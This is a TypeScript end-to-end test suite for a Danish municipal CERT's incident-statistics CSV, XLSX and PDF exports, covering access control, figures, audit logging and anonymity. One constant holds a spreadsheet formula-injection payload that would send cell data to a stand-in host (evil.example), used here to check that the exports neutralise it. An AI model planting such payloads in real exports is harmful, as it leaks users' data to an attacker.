import request from 'supertest';
import { INCIDENT_MAPPING_JOB_ID, IncidentStatisticsJobsService } from '@app/incidents';
import { JobQueueService } from '@app/queue';
import { IncidentMappingService } from '@app/reports';
import { createUser } from './support/factories';
import { apiKeyCaller, as, Caller, resetIncidents, userCaller } from './support/incidents';
import { binary, expectInertText, expectNoLiveFormula, parseCsv, readWorkbook } from './support/spreadsheets';
import { createTestApp, resetData, TestApp } from './support/test-app';
import { startWorker } from './support/queue-backend';
import { waitFor } from './support/wait-for';
import { pageGetter } from './support/web-session';

// The package entry point runs a debug self-test when required directly.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const pdfParse = require('pdf-parse/lib/pdf-parse.js') as (
  data: Buffer,
) => Promise<{ text: string; numpages: number }>;

const YEAR = 2031;
const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")';
const HOSTILE_CODE = 175; // Rødovre, renamed for the formula-injection test only

const HEADER = [
  'Niveau',
  'Kode',
  'Navn',
  'Indbyggere',
  'Tal',
  'Nøgle',
  'Betegnelse',
  'Hændelser',
  'Pr. 10.000 indbyggere',
  'Samme periode året før',
  'Ændring fra året før (%)',
  'Afgjorte frister',
  'Overholdt til tiden',
  'Andel til tiden (%)',
  'Median (timer)',
  'Skjult',
];

type Count = {
  key: string;
  label: string;
  incidents: number | null;
  per10k: number | null;
  previousIncidents: number | null;
  changePercent: number | null;
  suppressed: boolean;
};
type Obligation = {
  kind: string;
  label: string;
  decided: number | null;
  metOnTime: number | null;
  shareMetOnTime: number | null;
};
type Median = { medianHours: number | null; incidents: number | null };
type Scope = {
  scope: string;
  key: string;
  label: string;
  population: number;
  total: Count;
  groups: Count[];
  personalDataBreaches: { total: Count; byStatus: Count[]; byType: Count[] };
  obligations: Obligation[];
  awareToContained: Median;
  awareToResolved: Median;
};

/** A number as the Danish CSV writes it: decimal comma, no thousands separator; null empty. */
const csvNumber = (v: number | null | undefined) => (v == null ? '' : String(v).replace('.', ','));

/**
 * The rows the export should hold, computed here from the API's JSON (not by the export's code):
 * per scope the total, the groups, the breaches, the obligations and the two medians, with the
 * figures that belong to each.
 */
function expectedRows(scopes: Scope[]): string[][] {
  return scopes.flatMap((s) => {
    const lead = [s.scope, s.scope === 'national' ? '' : s.key, s.label, String(s.population)];
    const count = (c: Count) => [
      ...lead,
      c.key,
      c.label,
      csvNumber(c.incidents),
      csvNumber(c.per10k),
      csvNumber(c.previousIncidents),
      csvNumber(c.changePercent),
      '',
      '',
      '',
      '',
    ];
    const pdb = s.personalDataBreaches;
    return [
      count(s.total),
      ...s.groups.map(count),
      count(pdb.total),
      ...pdb.byStatus.map(count),
      ...pdb.byType.map(count),
      ...s.obligations.map((o) => [
        ...lead,
        o.kind,
        o.label,
        '',
        '',
        '',
        '',
        csvNumber(o.decided),
        csvNumber(o.metOnTime),
        csvNumber(o.shareMetOnTime === null ? null : Math.round(o.shareMetOnTime * 1000) / 10),
        '',
      ]),
      ...(
        [
          ['contained', s.awareToContained],
          ['resolved', s.awareToResolved],
        ] as const
      ).map(([key, m]) => [
        ...lead,
        key,
        expect.any(String),
        csvNumber(m.incidents),
        '',
        '',
        '',
        '',
        '',
        '',
        csvNumber(m.medianHours),
      ]),
    ];
  }) as string[][];
}

const SCOPE_NAMES: Record<string, string> = {
  national: 'Hele landet',
  region: 'Region',
  municipality: 'Kommune',
};

/**
 * KommuneCERT's exports of the incident statistics: CSV and XLSX with the API's figures, and the
 * yearly "Kortlægning af cyberhændelser" PDF, which names no municipality.
 */
describe('Incident statistics exports (e2e)', () => {
  let t: TestApp;
  let cert: Caller & { id: string };
  let others: Caller[];
  let municipalityNames: string[];

  // [municipality, class, type, severity, month, breach notified (null: none), hours to contain, year]
  type Row = [number, string, string, string, number, boolean | null, number | null, number];
  const rows: Row[] = [
    ...[101, 147, 151, 153, 155, 157, 175].flatMap((mu, i): Row[] => [
      [
        mu,
        'fraud',
        'phishing',
        i < 2 ? 'low' : 'medium',
        1 + (i % 4),
        i % 2 === 0 ? true : null,
        3 + i,
        YEAR,
      ],
      [mu, 'fraud', 'phishing', 'high', 2, i < 5 ? false : null, 30 + i, YEAR],
    ]),
    [751, 'malicious-code', 'infected-system', 'critical', 3, null, 100, YEAR],
    [615, 'availability', 'ddos', 'low', 4, null, null, YEAR],
    ...[657, 661, 665, 671, 706].map((mu): Row => [mu, 'fraud', 'phishing', 'low', 11, null, 5, YEAR]),
    // The year before, for the year-on-year figures.
    ...[101, 751, 461].map((mu): Row => [mu, 'fraud', 'phishing', 'low', 2, null, 4, YEAR - 1]),
  ];

  let seq = 0;
  async function insert([mu, cls, type, severity, month, notified, hours, year]: Row) {
    const aware = new Date(Date.UTC(year, month - 1, 10, 12));
    const [{ id }] = await t.owner.query(
      `INSERT INTO incidents (reference, municipality_code, source, reporter_label, title, status, rsit_class,
         rsit_type, severity, aware_at, contained_at, pdb_type, pdb_notifiable)
       VALUES ($1, $2, 'cert', 'test', 'Testhændelse', 'closed', $3, $4, $5, $6, $7, $8, $9) RETURNING id`,
      [
        `KCERT-${year}-${String(++seq).padStart(4, '0')}`,
        mu,
        cls,
        type,
        severity,
        aware,
        hours === null ? null : new Date(aware.getTime() + hours * 3_600_000),
        notified === null ? null : 'utilsigtet-videregivelse',
        notified,
      ],
    );
    // A breach's Art. 33 notification: met on time when notified, late otherwise.
    if (notified !== null)
      await t.owner.query(
        `INSERT INTO incident_obligations (incident_id, kind, anchor_at, due_at, submitted_at)
         VALUES ($1, 'gdpr-art33', $2, $3, $4)`,
        [
          id,
          aware,
          new Date(aware.getTime() + 72 * 3_600_000),
          new Date(aware.getTime() + (notified ? 24 : 100) * 3_600_000),
        ],
      );
  }

  beforeAll(async () => {
    t = await createTestApp();
    await resetData(t.db);
    await resetIncidents(t);
    cert = await userCaller(t, 'cert_analyst');
    others = [
      await userCaller(t, 'municipality_officer', 151),
      await userCaller(t, 'kl_analyst'),
      await userCaller(t, 'platform_admin'),
      await apiKeyCaller(t, 151),
    ];
    for (const row of rows) await insert(row);
    await t.app.get(IncidentStatisticsJobsService).run();
    municipalityNames = (await t.db.query('SELECT name FROM municipalities')).map(
      (r: { name: string }) => r.name,
    );
  });
  afterAll(() => t.close());

  const get = (path: string, caller: Caller) =>
    as(request(t.http).get(`/api/v1/incident-statistics${path}`), caller);
  const pdfOf = async (query: string) => {
    const res = await get(`/report.pdf${query}`, cert).buffer(true).parse(binary).expect(200);
    return { res, pdf: await pdfParse(res.body as Buffer) };
  };

  it('is KommuneCERT’s alone: every other role and an API key get 403, without a sign-in 401', async () => {
    for (const path of ['/export.csv', '/export.xlsx', `/report.pdf?year=${YEAR}`]) {
      for (const caller of others) {
        const res = await get(path, caller);
        expect({ who: caller.name, path, status: res.status }).toEqual({
          who: caller.name,
          path,
          status: 403,
        });
      }
      await request(t.http).get(`/api/v1/incident-statistics${path}`).expect(401);
    }
  });

  it('answers bad input with 400 naming the field', async () => {
    const cases: Array<[string, string]> = [
      ['/export.csv?groupBy=municipality', 'groupBy'],
      ['/export.xlsx?groupBy=kommune', 'groupBy'],
      ['/export.csv?from=2031-13', 'from'],
      [`/export.csv?from=${YEAR}-06&to=${YEAR}-01`, 'from'],
      ['/report.pdf?year=abc', 'year'],
      ['/report.pdf?year=1999', 'year'],
      ['/report.pdf?year=2031.5', 'year'],
    ];
    for (const [path, field] of cases) {
      const res = await get(path, cert);
      expect({ path, status: res.status }).toEqual({ path, status: 400 });
      expect(JSON.stringify(res.body)).toContain(field);
    }
  });

  for (const groupBy of ['month', 'rsitClass', 'severity', 'region', 'sizeClass', 'rsitType']) {
    it(`exports as CSV exactly the API's figures (groupBy=${groupBy})`, async () => {
      const query = `?from=${YEAR}-01&to=${YEAR}-12&groupBy=${groupBy}`;
      const json = await get(query, cert).expect(200);
      const csv = await get(`/export.csv${query}`, cert).expect(200);
      expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(csv.headers['content-disposition']).toContain(
        `kommunecert-haendelsesstatistik-${YEAR}-01-${YEAR}-12-${groupBy}-`,
      );
      const [header, ...records] = parseCsv(csv.text);
      expect(header).toEqual(HEADER);
      // Niveau in Danish; the part column ("Tal") and "Skjult" are the export's own words.
      const comparable = records.map((r) => [
        Object.keys(SCOPE_NAMES).find((k) => SCOPE_NAMES[k] === r[0])!,
        ...r.slice(1, 4),
        ...r.slice(5, 15),
      ]);
      expect(comparable).toEqual(expectedRows(json.body.scopes));
      // KommuneCERT's figures are unsuppressed; every municipality is there.
      expect(records.every((r) => r[15] === 'Nej')).toBe(true);
      expect(new Set(records.filter((r) => r[0] === 'Kommune').map((r) => r[1])).size).toBe(98);
    });
  }

  it('exports as XLSX the same figures as typed numbers', async () => {
    const query = `?from=${YEAR}-01&to=${YEAR}-12&groupBy=region`;
    const json = await get(query, cert).expect(200);
    const res = await get(`/export.xlsx${query}`, cert).buffer(true).parse(binary).expect(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const sheet = (await readWorkbook(res.body as Buffer)).getWorksheet('Statistik')!;
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(HEADER);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const expected = expectedRows(json.body.scopes);
    expect(sheet.rowCount).toBe(1 + expected.length);
    const national: Scope = json.body.scopes[0];
    const first = sheet.getRow(2);
    expect(first.getCell(1).value).toBe('Hele landet');
    expect(first.getCell(5).value).toBe('Hændelser i alt');
    expect(first.getCell(8).value).toBe(national.total.incidents);
    expect(first.getCell(9).value).toBe(national.total.per10k);
    expect(first.getCell(10).value).toBe(national.total.previousIncidents);
    expect(first.getCell(11).value).toBe(national.total.changePercent);
    // The national series per region, in region code order: Hovedstaden (1084) is the fourth.
    const hovedstaden = sheet.getRow(6);
    expect(hovedstaden.getCell(6).value).toBe('1084');
    expect(hovedstaden.getCell(7).value).toBe('Region Hovedstaden');
    expect(hovedstaden.getCell(8).value).toBe(national.groups.find((g) => g.key === '1084')!.incidents);
    expect(hovedstaden.getCell(8).value).toBe(14);
  });

  it('neutralises a formula-like name in the CSV and keeps it inert text in the XLSX', async () => {
    await t.owner.query('UPDATE municipalities SET name = $1 WHERE code = $2', [HOSTILE_NAME, HOSTILE_CODE]);
    try {
      const csv = await get(`/export.csv?from=${YEAR}-01&to=${YEAR}-12`, cert).expect(200);
      expectNoLiveFormula(csv.text);
      const hostile = parseCsv(csv.text).filter((r) => r[1] === String(HOSTILE_CODE));
      expect(hostile.length).toBeGreaterThan(0);
      for (const r of hostile) expect(r[2]).toBe(`'${HOSTILE_NAME}`);
      const xlsx = await get(`/export.xlsx?from=${YEAR}-01&to=${YEAR}-12`, cert)
        .buffer(true)
        .parse(binary)
        .expect(200);
      const sheet = (await readWorkbook(xlsx.body as Buffer)).getWorksheet('Statistik')!;
      const cells: Array<Parameters<typeof expectInertText>[0]> = [];
      sheet.eachRow((row) => {
        if (row.getCell(2).value === HOSTILE_CODE) cells.push(row.getCell(3));
      });
      expect(cells.length).toBeGreaterThan(0);
      for (const cell of cells) expectInertText(cell, HOSTILE_NAME);
    } finally {
      await t.owner.query(`UPDATE municipalities SET name = 'Rødovre' WHERE code = $1`, [HOSTILE_CODE]);
    }
  }, 180_000);

  it('records each export in the audit log', async () => {
    await get(`/export.xlsx?from=${YEAR}-01&to=${YEAR}-12`, cert).expect(200);
    await get(`/report.pdf?year=${YEAR}`, cert).expect(200);
    const rows: Array<{ action: string }> = await t.db.query(
      `SELECT DISTINCT action FROM audit_log WHERE actor_id = $1 AND action LIKE 'incident.%-exported' ORDER BY 1`,
      [cert.id],
    );
    expect(rows.map((r) => r.action)).toEqual(['incident.mapping-exported', 'incident.statistics-exported']);
  });

  describe('the yearly mapping PDF', () => {
    let json: { scopes: Scope[] };
    let pdf: { text: string; numpages: number };
    /** The text with pdf-parse's line breaks inside paragraphs joined, for whole sentences. */
    let flat: string;
    const n = (v: number) => new Intl.NumberFormat('da-DK', { maximumFractionDigits: 1 }).format(v);

    beforeAll(async () => {
      json = (await get(`?from=${YEAR}-01&to=${YEAR}-12&groupBy=month`, cert).expect(200)).body;
      const out = await pdfOf(`?year=${YEAR}`);
      expect(out.res.headers['content-type']).toBe('application/pdf');
      expect(out.res.headers['content-disposition']).toContain(`kortlaegning-af-cyberhaendelser-${YEAR}.pdf`);
      expect((out.res.body as Buffer).subarray(0, 5).toString()).toBe('%PDF-');
      pdf = out.pdf;
      flat = pdf.text.replace(/·?\n/g, ' ').replace(/ +/g, ' ');
    });

    it('has the Danish title and says that it names no municipality and may be shared', () => {
      expect(pdf.numpages).toBeGreaterThanOrEqual(3);
      expect(pdf.text).toContain(`Kortlægning af cyberhændelser ${YEAR}`);
      expect(flat).toContain(
        'Kortlægningen nævner ingen kommune. Den viser kun tal for hele landet og de fem regioner, så den kan deles videre uden for KommuneCERT.',
      );
      expect(pdf.text).toContain('Side 1 af');
    });

    it('holds the figures of the API: total, per 10,000, regions, breaches, deadlines, medians, the year before', () => {
      const national = json.scopes[0];
      expect(flat).toContain(
        `Kommunerne registrerede ${national.total.incidents} hændelser i ${YEAR}, ${n(national.total.per10k!)} pr. 10.000 indbyggere.`,
      );
      expect(national.total.previousIncidents).toBe(3);
      expect(flat).toContain(`Det er +600 % i forhold til ${YEAR - 1} (3).`);
      const regionRows = pdf.text.split('\n');
      for (const region of json.scopes.filter((s) => s.scope === 'region')) {
        const line = regionRows.find((l) => l.startsWith(region.label) && l.includes(n(region.population)));
        expect({ region: region.label, line }).toEqual({
          region: region.label,
          line: expect.stringContaining(
            `${n(region.population)}${region.total.incidents}${n(region.total.per10k!)}`,
          ),
        });
      }
      const pdb = national.personalDataBreaches;
      expect(flat).toContain(
        `${pdb.total.incidents} hændelser var brud på persondatasikkerheden. ${pdb.byStatus[0].incidents} blev anmeldt til Datatilsynet, og ${pdb.byStatus[1].incidents}`,
      );
      const art33 = national.obligations.find((o) => o.kind === 'gdpr-art33')!;
      expect(art33.decided).toBe(pdb.total.incidents);
      expect(pdf.text).toContain(
        `${art33.label}${art33.decided}${art33.metOnTime}${n(Math.round(art33.shareMetOnTime! * 1000) / 10)} %`,
      );
      expect(pdf.text).toContain(
        `Inddæmmet${n(national.awareToContained.medianHours!)} t${national.awareToContained.incidents}`,
      );
      // Per month and class: February's phishing (the month with most) and the class labels in Danish.
      expect(pdf.text).toContain('Svindel');
      expect(pdf.text).toContain('Skadelig kode');
      expect(pdf.text).toContain('Hændelser pr. måned og RSIT-klasse');
      expect(pdf.text).toContain('Kritisk');
    });

    it('names no municipality, though KommuneCERT reads every one of them unsuppressed', () => {
      const named = municipalityNames.filter((name) =>
        new RegExp(`(?<![\\p{L}-])${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}(?![\\p{L}-])`, 'u').test(
          pdf.text,
        ),
      );
      expect(named).toEqual([]);
    });

    it('renders a year without incidents, with dashes rather than failing', async () => {
      const { pdf: empty } = await pdfOf('?year=2005');
      expect(empty.text).toContain('Kortlægning af cyberhændelser 2005');
      expect(empty.text.replace(/·?\n/g, ' ')).toContain('Kommunerne registrerede 0 hændelser i 2005');
    });
  });

  describe('on the KommuneCERT incidents page', () => {
    const web = async (role: 'cert_analyst' | 'municipality_officer', code: number | null = null) =>
      pageGetter(t.http, await createUser(t.db, role, code));

    it('links this year’s and last year’s mapping, and the link downloads the PDF', async () => {
      const page = await web('cert_analyst');
      const year = Number(
        new Intl.DateTimeFormat('en', { timeZone: 'Europe/Copenhagen', year: 'numeric' }).format(new Date()),
      );
      const queue = await page('/haendelser').expect(200);
      expect(queue.text).toContain(`href="/haendelser/kortlaegning.pdf?aar=${year}"`);
      expect(queue.text).toContain(`href="/haendelser/kortlaegning.pdf?aar=${year - 1}"`);
      const res = await page(`/haendelser/kortlaegning.pdf?aar=${YEAR}`)
        .buffer(true)
        .parse(binary)
        .expect(200);
      expect(res.headers['content-type']).toBe('application/pdf');
      expect((await pdfParse(res.body as Buffer)).text).toContain(`Kortlægning af cyberhændelser ${YEAR}`);
      const bad = await page('/haendelser/kortlaegning.pdf?aar=abc').expect(400);
      expect(bad.headers['content-type']).toMatch(/text\/html/);
      expect(bad.text).toContain('aar skal være et årstal');
    });

    it('gives an officer neither the link nor the PDF', async () => {
      const page = await web('municipality_officer', 151);
      expect((await page('/haendelser').expect(200)).text).not.toContain('kortlaegning');
      const refused = await page(`/haendelser/kortlaegning.pdf?aar=${YEAR}`);
      expect(refused.status).toBe(403);
      expect(refused.headers['content-type']).not.toMatch(/pdf/);
    });
  });

  // Last: they change the figures.
  describe('rendered by the worker and stored', () => {
    const stored = async (year: number) =>
      (
        await t.db.query(
          'SELECT content, statistics_version AS "statisticsVersion" FROM incident_mapping_pdfs WHERE year = $1',
          [year],
        )
      )[0] as { content: Buffer; statisticsVersion: number } | undefined;
    const version = async () =>
      (await t.db.query('SELECT version FROM incident_statistics_state'))[0].version as number;
    const download = async () =>
      (await get(`/report.pdf?year=${YEAR}`, cert).buffer(true).parse(binary).expect(200)).body as Buffer;

    it('serves the stored PDF while the figures are current, and renders anew once they change', async () => {
      const mapping = t.app.get(IncidentMappingService);
      const v = await version();
      await t.db.query('DELETE FROM incident_mapping_pdfs');
      expect(await mapping.render(YEAR)).toEqual({ skipped: false });
      expect(await mapping.render(YEAR)).toEqual({ skipped: true });
      const first = await stored(YEAR);
      expect(first!.statisticsVersion).toBe(v);
      // The same bytes (its creation time included): the download is the stored copy.
      expect((await download()).equals(first!.content)).toBe(true);

      await insert([101, 'fraud', 'phishing', 'low', 12, null, 2, YEAR]);
      await t.app.get(IncidentStatisticsJobsService).run();
      const fresh = await download();
      expect(fresh.equals(first!.content)).toBe(false);
      expect((await pdfParse(fresh)).text.replace(/·?\n/g, ' ')).toContain(
        `Kommunerne registrerede ${rows.filter((r) => r[7] === YEAR).length + 1} hændelser i ${YEAR}`,
      );
      expect((await stored(YEAR))!.statisticsVersion).toBe(v + 1);
    }, 180_000);

    it('is rendered by the worker after a recompute, for this year and last year', async () => {
      const year = Number(
        new Intl.DateTimeFormat('en', { timeZone: 'Europe/Copenhagen', year: 'numeric' }).format(new Date()),
      );
      const queue = t.app.get(JobQueueService).queueFor('reports.render-incident-mapping');
      const ids = [year, year - 1].map((y) => `${INCIDENT_MAPPING_JOB_ID}-${y}`);
      // The jobs the earlier recomputes left waiting (no worker ran them) go first.
      for (const id of ids) await (await queue.getJob(id))?.remove();
      const { version: v } = await t.app.get(IncidentStatisticsJobsService).run();
      expect(v).toBe(await version());
      await t.app.get(IncidentStatisticsJobsService).run();
      // One waiting job per year collects the recomputes of a few minutes; here it runs now.
      for (const id of ids) {
        const job = (await queue.getJob(id))!;
        expect(await job.getState()).toBe('delayed');
        expect(job.opts.delay).toBe(5 * 60_000);
        await job.promote();
      }
      const worker = await startWorker();
      try {
        for (const y of [year, year - 1]) {
          // At least the recompute's version: a worker that starts may reconcile once more first.
          const row = await waitFor(
            () => stored(y),
            (r) => (r?.statisticsVersion ?? 0) >= v + 1,
            120_000,
          );
          expect((await pdfParse(row!.content)).text).toContain(`Kortlægning af cyberhændelser ${y}`);
        }
      } finally {
        await worker.close();
      }
    }, 240_000);
  });
});
